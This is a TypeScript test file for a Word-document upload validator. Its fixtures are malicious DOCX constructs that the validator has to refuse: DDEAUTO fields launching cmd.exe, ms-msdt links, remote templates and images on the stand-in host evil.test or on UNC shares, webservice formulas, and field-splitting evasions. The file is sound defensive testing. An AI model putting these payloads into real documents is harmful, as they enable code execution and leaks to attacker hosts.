import { makeZip } from '@portal/test-kit';
import { sheetOf } from '../../../test/factories/sheets';
import { problemOfDocx } from './docx';

const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const drawing = (content: string) => `<w:pict xmlns:v="urn:schemas-microsoft-com:vml">${content}</w:pict>`;
const link = (kind: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="a" Type="${kinds}/${kind}" Target="${target}"${mode}/></Relationships>`;
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const compatible = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const text = (content: string, namespace = word) =>
  `<w:document xmlns:w="${namespace}" xmlns:mc="${compatible}" xmlns:ign="ign" mc:Ignorable="ign"><w:body>${content}</w:body></w:document>`;
const code = (...parts: string[]) =>
  parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('');
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...parts: string[]) => mark('begin') + code(...parts) + mark('separate') + mark('end');

const document = { '[Content_Types].xml': '<Types/>', 'word/document.xml': text('') };
const docx = (parts: Record<string, string | Buffer> = {}) => makeZip({ ...document, ...parts });
const withText = (content: string) => docx({ 'word/document.xml': text(content) });
const withSheet = (parts: Record<string, string> = {}) =>
  docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': sheetOf(parts) });
const withLink = (content: string) => docx({ 'word/_rels/settings.xml.rels': content });

it('refuses a text whose main part has the name of something else', () => {
  const kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const list = `<Types><Override PartName="/word/a.png" ContentType="${kind}"/></Types>`;
  expect(problemOfDocx(docx({ '[Content_Types].xml': list, 'word/a.png': text('') }))).toBe('other');
});

describe('a text with macros', () => {
  it.each<[string, Buffer]>([
    ['programs beside it', docx({ 'word/vbaProject.bin': 'x' })],
    [
      'programs under another name',
      docx({ '[Content_Types].xml': '<Override ContentType="application/vnd.ms-office.vbaProject"/>' }),
    ],
    [
      'a main part that says so',
      docx({ '[Content_Types].xml': '<Override ContentType="x.document.macroEnabled.main+xml"/>' }),
    ],
    ['a link to programs', withLink(link('vbaProject', 'a.bin', ''))],
  ])('is refused: %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('macros');
  });
});

describe('a text that takes in something else', () => {
  it.each<[string, Buffer]>([
    ['a template of another machine', withLink(link('attachedTemplate', 'https://evil.test/a.dotm'))],
    ['a template of a share', withLink(link('attachedTemplate', 'file:///\\\\evil.test\\share\\a.dotm'))],
    ['a template of a share by its short name', withLink(link('attachedTemplate', '\\\\evil.test\\a.dotm'))],
    ['a picture of another machine', withLink(link('image', 'https://evil.test/a.png'))],
    ['a frame', withLink(link('frame', 'https://evil.test/'))],
    ['a link that starts a program', withLink(link('hyperlink', 'ms-msdt:/id PCWDiagnostic'))],
    ['a link to a share', withLink(link('hyperlink', '\\\\evil.test\\a.docx'))],
    ['a link without its mode', withLink(link('image', 'https://evil.test/a.png', ''))],
    ['an object of another program', withLink(link('oleObject', 'embeddings/a.bin', ''))],
    ['a page within the text', withLink(link('aFChunk', 'a.html', ''))],
    [
      'an object under another name',
      docx({
        '[Content_Types].xml':
          '<Override ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      }),
    ],
    ['a packed object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a packed file', docx({ 'word/embeddings/Microsoft_Word_Document.docx': 'x' })],
    ['a control', docx({ 'word/activeX/activeX1.xml': '<a/>' })],
    ['a field in a section of plain signs', withText(field('<![CDATA[DDEAUTO c:\\\\a.exe]]>'))],
    [
      'a field that starts a program',
      withText(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    ],
    ['a field in pieces', withText(field('DD', 'EAU', 'TO cmd'))],
    ['a field in small letters', withText(field(' dde Excel a'))],
    ['a short field', withText('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.test/a&quot; "/>')],
    [
      'a field within a field',
      withText(mark('begin') + code('IF ') + field('INCLUDEPICTURE "https://evil.test"') + mark('end')),
    ],
    [
      'a field whose name is made by another',
      withText(mark('begin') + field('QUOTE 68 68 69') + code(' ') + mark('end')),
    ],
    ['a field without marks', withText(code('LINK Excel.Sheet.8'))],
    ['a link of a field that starts a program', withText(field('HYPERLINK "ms-msdt:/id a"'))],
    ['a link of a field to a share', withText(field('HYPERLINK \\l "a" "\\\\\\\\evil.test\\\\a"'))],
    [
      'a link whose address is made by a field',
      withText(mark('begin') + code('HYPERLINK "') + field('QUOTE a') + code('"') + mark('end')),
    ],
    [
      'a link whose address is text',
      withText(`${mark('begin')}${code('HYPERLINK ')}<w:r><w:t>ms-msdt:a</w:t></w:r>${mark('end')}`),
    ],
    ['a button for a command', withText(field('MACROBUTTON FileExit a'))],
    ['a picture by its address', withText(drawing('<v:imagedata src="https://evil.test/a.png"/>'))],
    ['a drawing that starts a program', withText(drawing('<v:shape href="ms-msdt:a"/>'))],
    ['a film of the web', withText('<wp15:webVideoPr xmlns:wp15="a" embeddedHtml="a"/>')],
    [
      'a database to fill letters from',
      withText('<w:mailMerge><w:connectString w:val="DSN=a"/></w:mailMerge>'),
    ],
    [
      'a program beside it from a share',
      docx({
        'word/webextensions/webextension1.xml':
          '<we:reference xmlns:we="a" store="\\\\evil.test" storeType="FileSystem"/>',
      }),
    ],
    ['a film', docx({ 'word/media/media1.mp4': 'x' })],
    ['a whole archive', docx({ 'word/media/a.zip': 'x' })],
    ['a field in a heading', docx({ 'word/header1.xml': text(field('DDE a b')) })],
    [
      'an object in the text',
      withText('<w:object><o:OLEObject Type="Embed" r:id="a" xmlns:o="o" xmlns:r="r"/></w:object>'),
    ],
    ['a field in wide letters', docx({ 'word/header1.xml': `\ufeff${text(field('DDE a b'))}` })],
  ])('is refused: %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('linked');
  });

  it.each<[string, Buffer]>([
    ['that is none', docx({ 'word/embeddings/a.xlsx': 'x' })],
    ['that is a text', docx({ 'word/embeddings/a.xlsx': makeZip(document) })],
    ['that links to another', withSheet({ 'xl/externalLinks/externalLink1.xml': '<a/>' })],
    ['that asks a database', withSheet({ 'xl/connections.xml': '<a/>' })],
    ['with an object', withSheet({ 'xl/embeddings/oleObject1.bin': 'x' })],
    [
      'with an outer picture',
      withSheet({ 'xl/_rels/workbook.xml.rels': link('image', 'https://evil.test/a') }),
    ],
    ['that asks another program', withSheet({ 'xl/worksheets/sheet1.xml': `<f>cmd|'/c calc'!A0</f>` })],
    [
      'that asks the web',
      withSheet({ 'xl/worksheets/sheet1.xml': '<f>webservice("https://evil.test")</f>' }),
    ],
    ['that asks the web by a name', withSheet({ 'xl/workbook.xml': '<definedName>RTD("a")</definedName>' })],
  ])('is refused: a sheet %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('linked');
  });

  it.each<[string, Buffer]>([
    ['programs', withSheet({ 'xl/vbaProject.bin': 'x' })],
    ['programs of the older kind', withSheet({ 'xl/macrosheets/sheet1.xml': '<a/>' })],
    ['a kind with programs', withSheet({ '[Content_Types].xml': '<a ContentType="a.sheet.macroEnabled"/>' })],
  ])('is refused: a sheet with %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('macros');
  });

  it('is refused where the sheets in it inflate to more than a text', () => {
    const large = sheetOf({ 'xl/worksheets/sheet1.xml': `<a>${'a'.repeat(30_000_000)}</a>` });
    const parts = {
      'word/embeddings/a.xlsx': large,
      'word/embeddings/b.xlsx': large,
      'word/embeddings/c.xlsx': large,
    };
    expect(problemOfDocx(docx(parts))).toBe('other');
  });

  const dde = code('DDEAUTO c:\\\\a.exe') + mark('end');
  it.each<[string, string]>([
    ['code that is left out', `${mark('begin')}<ign:instrText>PAGE </ign:instrText>${dde}`],
    ['code in an element that is left out', `${mark('begin')}<ign:a>${code('PAGE ')}</ign:a>${dde}`],
    [
      'code in a choice that is not taken',
      `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="ign">${code('PAGE ')}</mc:Choice></mc:AlternateContent>${dde}`,
    ],
    ['code with an element in it', `${mark('begin')}${code('<ign:a>PAGE </ign:a>DDEAUTO a')}${mark('end')}`],
    ['a mark that is left out', `${mark('begin')}<ign:fldChar w:fldCharType="separate"/>${dde}`],
    ['a mark in a choice', `${mark('begin')}<mc:Choice>${mark('separate')}</mc:Choice>${dde}`],
    ['an end in a choice', `${mark('begin')}<mc:Choice>${mark('end')}</mc:Choice>${code('D', 'DE a')}`],
    ['a beginning in a choice', `<mc:Choice>${mark('begin')}${code('PAGE ')}</mc:Choice>${dde}`],
    ['a mark without its kind', `${mark('begin')}<w:fldChar ign:fldCharType="separate"/>${dde}`],
    ['code behind a mark', `${mark('begin')}${mark('separate')}${dde}`],
    ['many blanks before its name', mark('begin') + code(' '.repeat(5000)) + dde],
  ])('is refused: a field hides behind %s', (_, content) => {
    expect(problemOfDocx(withText(content))).toBe('linked');
  });

  it('is refused: a field in the strict kind of the standard', () => {
    const strict = text(field('DDE a'), 'http://purl.oclc.org/ooxml/wordprocessingml/main');
    expect(problemOfDocx(docx({ 'word/document.xml': strict }))).toBe('linked');
  });

  it.each<[string, Buffer]>([
    [
      'Target',
      withLink(
        link('attachedTemplate', '\\\\evil.test\\a.dotm').replace(
          'Target=',
          'xmlns:x="x" x:Target="a.dotm" Target=',
        ),
      ),
    ],
    ['TargetMode', withLink(link('image', 'a.png', ' xmlns:x="x" TargetMode="Internal" x:TargetMode="a"'))],
    ['Type', withLink('<Relationship xmlns:x="x" Type="a/oleObject" x:Type="a/image" Target="a.png"/>')],
    [
      'ContentType',
      docx({ '[Content_Types].xml': '<Override xmlns:x="x" ContentType="text/html" x:ContentType="a"/>' }),
    ],
    ['instr', withText('<w:fldSimple w:instr="DDE a" ign:instr="PAGE"/>')],
    ['fldCharType', withText('<w:fldChar w:fldCharType="begin" ign:fldCharType="end"/>')],
  ])('is refused where an attribute stands twice: %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBe('other');
  });

  it.each<[string, string]>([
    ['text beside code', `${code('D')}<w:r><w:t>DE</w:t></w:r>${code(' a')}`],
    ['text before code', `<w:r><w:t>DDE</w:t></w:r>${code(' a')}`],
    ['another field', `${code('D')}${field('QUOTE DE')}${code(' a')}`],
    ['a short field', `${code('D')}<w:fldSimple w:instr="QUOTE DE"/>${code(' a')}`],
    ['a sign', `${code('D')}<w:r><w:sym w:char="0044"/></w:r>${code('E a')}`],
    ['a blank that is an element', `${code('LINK')}<w:r><w:tab/></w:r>${code('Excel')}`],
    ['a new line', `${code('LINK')}<w:p/>${code('Excel')}`],
  ])('is refused: the name of a field is made of %s', (_, content) => {
    expect(problemOfDocx(withText(mark('begin') + content + mark('end')))).toBe('linked');
  });

  it('is refused where two parts have one name', () => {
    const bytes = docx({ 'word/a.xml': '<a/>', 'word/A.xml': '<a/>' });
    expect(problemOfDocx(bytes)).toBe('other');
  });
});

describe('a text that only shows itself', () => {
  it.each<[string, Buffer]>([
    ['links to pages', withLink(link('hyperlink', 'https://example.org/a?b=c'))],
    ['begins a mail', withLink(link('hyperlink', 'mailto:a@example.org'))],
    ['links within itself', withLink(link('hyperlink', '#chapter'))],
    ['links to a file of its writer', withLink(link('hyperlink', 'file:///C:\\Users\\marie\\cv.docx'))],
    ['has a template by its name', withLink(link('attachedTemplate', 'Normal.dotm'))],
    [
      'has a template of its writer',
      withLink(link('attachedTemplate', 'file:///C:\\Users\\marie\\Normal.dotm')),
    ],
    ['has a picture', withLink(link('image', 'media/image1.png', ''))],
    ['has a part by its whole path', withLink(link('styles', '/word/styles.xml', ''))],
    ['has a chart with its sheet', withSheet()],
    [
      'has a sheet that counts',
      withSheet({ 'xl/worksheets/sheet1.xml': '<c><f>SUM(A1:A2)&amp;"a|b"</f></c>' }),
    ],
    [
      'has a sheet with what Excel keeps of a printer',
      withSheet({ 'xl/printerSettings/printerSettings1.bin': 'x', 'docProps/app.xml': '<a/>' }),
    ],
    ['has what Word keeps of a printer', docx({ 'word/printerSettings1.bin': 'x' })],
    ['has fonts and a miniature', docx({ 'word/fonts/font1.odttf': 'x', 'docProps/thumbnail.emf': 'x' })],
    ['cites by a program for references', withText(field(' ADDIN ZOTERO_ITEM CSL_CITATION {"a":1} '))],
    ['has a place to type at', withText(field(' MACROBUTTON  NoMacro [Click here] '))],
    ['links to a page by a field', withText(field(' HYPERLINK "https://example.org/a" \\o "A hint: b" '))],
    ['links within itself by a field', withText(field(' HYPERLINK \\l "_Toc1" '))],
    ['links to a file of its writer by a field', withText(field(' HYPERLINK "C:\\\\a\\\\cv.docx" '))],
    ['has a drawing of the older kind', withText(drawing('<v:imagedata r:id="a" xmlns:r="r"/>'))],
    ['has a drawing with a link', withText(drawing('<v:shape href="https://example.org"/>'))],
    ['counts its pages', withText(`${field('PAGE')}${field(' TOC ')}<w:fldSimple w:instr="NUMPAGES"/>`)],
    [
      'has a field in each of two choices',
      withText(
        `<mc:AlternateContent><mc:Choice Requires="ign">${field('PAGE')}</mc:Choice><mc:Fallback>${field('PAGE')}</mc:Fallback></mc:AlternateContent>`,
      ),
    ],
    [
      'compares fields and counts with them',
      withText(
        mark('begin') +
          code(' IF ') +
          field('PAGE') +
          code(' = 1 ') +
          field('DATE') +
          mark('end') +
          mark('begin') +
          code('=') +
          field('PAGE') +
          mark('end'),
      ),
    ],
    ['writes about fields', withText('<w:t>DDEAUTO cmd.exe, INCLUDETEXT</w:t>')],
  ])('is taken: it %s', (_, bytes) => {
    expect(problemOfDocx(bytes)).toBeUndefined();
  });
});
